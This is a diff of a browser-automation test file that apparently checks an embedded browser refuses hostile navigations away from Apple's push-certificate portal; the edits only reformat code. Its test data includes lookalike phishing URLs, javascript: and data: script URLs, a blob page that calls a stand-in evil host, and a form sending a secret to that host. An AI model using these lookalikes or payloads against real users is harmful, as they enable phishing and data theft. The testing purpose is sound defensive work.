@@ -14,7 +14,11 @@ const lookalikes: readonly (readonly [name: string, address: string, log: string
   ['another host', 'https://E/', 'navigation E: host'],
   ['a Cyrillic letter in the name', 'https://іdentity.apple.com.E/', 'navigation xn--dentity-qog.apple.com.E: host'],
   ['Apple’s name before an @', 'https://identity.apple.com@E/', 'navigation E: holds-a-name'],
-  ['a name and password before Apple’s own host', 'https://E:secret@identity.apple.com/pushcert/', 'navigation identity.apple.com: holds-a-name'],
+  [
+    'a name and password before Apple’s own host',
+    'https://E:secret@identity.apple.com/pushcert/',
+    'navigation identity.apple.com: holds-a-name',
+  ],
   ['a trailing dot', 'https://identity.apple.com./pushcert/', 'navigation identity.apple.com.: host'],
   ['another port', 'https://identity.apple.com:8443/pushcert/', 'navigation identity.apple.com:8443: port'],
   ['a sub-domain of Apple’s host', 'https://E.identity.apple.com/', 'navigation E.identity.apple.com: host'],
@@ -30,8 +34,10 @@ const lookalikes: readonly (readonly [name: string, address: string, log: string
   ['this computer itself', 'http://127.0.0.1:9/', 'navigation http://127.0.0.1:9: scheme'],
 ];
 
-
-/** Addresses that are no web page. Chromium itself turns some away before anybody is asked: nothing to log, and nothing may happen. */
+/**
+ * Addresses that are no web page. Chromium itself turns some away before anybody is asked: nothing to log, and
+ * nothing may happen.
+ */
 const schemes: readonly (readonly [name: string, address: string, log: string])[] = [
   ['javascript:', 'javascript:document.write(navigator.userAgent)', ''],
   ['data:', 'data:text/html,<script>location="https://E/"</script>', ''],
@@ -61,21 +67,29 @@ test.describe('hostile: navigation to', () => {
 
   test('a page made of a blob', async ({ probe }) => {
     await probe.visit();
-    await probe.run(`location.href = URL.createObjectURL(new Blob(['<script>fetch("https://${probe.evil}/")</script>'], { type: 'text/html' }))`);
+    await probe.run(
+      `location.href = URL.createObjectURL(new Blob(['<script>fetch("https://${probe.evil}/")</script>'], { type: 'text/html' }))`,
+    );
     await probe.refused(/navigation blob: scheme/);
     await expectHome(probe);
   });
 
   test('another host by a link, by a form, by the history and by replacing itself', async ({ probe }) => {
     const { evil } = probe;
-    await probe.visit(`<a id="link" href="https://link.${evil}/">x</a><form id="form" method="post" action="https://form.${evil}/"><input name="secret" value="1"></form>`);
+    await probe.visit(
+      `<a id="link" href="https://link.${evil}/">x</a><form id="form" method="post" action="https://form.${evil}/"><input name="secret" value="1"></form>`,
+    );
     await probe.run(`history.pushState(null, '', '/pushcert/list'); document.getElementById('link').click()`);
     await probe.refused(/navigation link\.p\d+\.evil\.example: host/);
     await probe.run(`document.getElementById('form').submit()`);
     await probe.refused(/navigation form\.p\d+\.evil\.example: host/);
     await probe.run(`location.replace('https://replace.${evil}/')`);
     await probe.refused(/navigation replace\.p\d+\.evil\.example: host/);
-    expect(await probe.run(`try { history.pushState(null, '', 'https://push.${evil}/'); return 'done' } catch { return 'refused' }`)).toBe('refused');
+    expect(
+      await probe.run(
+        `try { history.pushState(null, '', 'https://push.${evil}/'); return 'done' } catch { return 'refused' }`,
+      ),
+    ).toBe('refused');
     await expectHome(probe);
   });
 
